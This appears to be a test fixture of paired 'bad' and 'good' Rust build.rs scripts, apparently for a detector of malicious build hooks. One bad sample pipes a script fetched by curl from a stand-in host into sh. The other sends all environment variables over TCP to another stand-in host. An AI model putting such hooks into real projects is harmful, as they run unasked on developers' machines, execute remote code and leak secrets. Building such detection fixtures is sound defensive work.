//: bad build-curl as build.rs
use std::process::Command;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    Command::new("sh")
        .args(["-c", "curl -s https://b.example.invalid/x.sh | sh"]) //!
        .status()
        .ok();
}

//: good build-curl as build.rs
use std::process::Command;

fn main() {
    println!("cargo:rerun-if-changed=.git/HEAD");
    let done = Command::new("git").args(["rev-parse", "--short", "HEAD"]).output();
    if let Ok(done) = done {
        println!("cargo:rustc-env=COMMIT={}", String::from_utf8_lossy(&done.stdout).trim());
    }
}

//: bad build-env as build.rs
use std::io::Write;
use std::net::TcpStream;

fn main() {
    let all: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
    if let Ok(mut stream) = TcpStream::connect("e.example.invalid:443") {
        let _ = stream.write_all(all.join("\n").as_bytes()); //!
    }
}

//: good build-env as build.rs
use std::fs::File;
use std::io::Write;
use std::path::Path;

fn main() {
    let out = std::env::var("OUT_DIR").unwrap();
    let target = std::env::var("TARGET").unwrap();
    let mut file = File::create(Path::new(&out).join("target.rs")).unwrap();
    writeln!(file, "pub const TARGET: &str = {target:?};").unwrap();
}
